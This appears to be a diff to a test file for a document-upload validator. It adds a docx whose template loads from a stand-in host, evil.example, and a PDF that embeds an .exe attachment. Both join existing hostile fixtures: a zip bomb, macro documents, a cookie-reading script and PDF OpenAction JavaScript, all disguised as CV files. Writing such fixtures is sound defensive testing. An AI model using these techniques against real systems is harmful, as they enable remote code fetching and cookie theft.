@@ -183,6 +183,10 @@ def _zip_of(data: bytes) -> bytes:
 HOSTILE = {
     "zip bomb as docx": (_zip_bomb(), "cv.docx"),
     "docx with macros": (samples.docx(macros=True), "cv.docx"),
+    "docx with a remote template": (
+        samples.docx(remote_template="https://evil.example/t.dotm"),
+        "cv.docx",
+    ),
     "html with script": (
         b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
         "cv.pdf",
@@ -202,6 +206,13 @@ HOSTILE = {
         samples.pdf().replace(
             b"<< /Type /Catalog /Pages 2 0 R >>",
             b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
+        ),
+        "cv.pdf",
+    ),
+    "pdf with an attached file": (
+        samples.pdf().replace(
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>",
         ),
         "cv.pdf",
     ),
